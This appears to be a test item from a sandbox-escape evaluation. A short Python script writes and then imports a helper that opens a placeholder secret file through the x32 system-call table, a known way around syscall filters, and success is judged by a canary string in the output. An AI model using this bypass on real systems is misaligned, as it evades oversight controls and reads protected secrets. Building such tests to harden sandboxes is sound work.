# class: kernel
# technique: system call by the x32 table
# success: output_has @@CANARY@@
import sys, unittest
source = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.syscall(0x40000000 + 2, b'@@SECRET@@', 0)\nprint(fd, os.read(fd, 100) if fd >= 0 else '')\n"
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
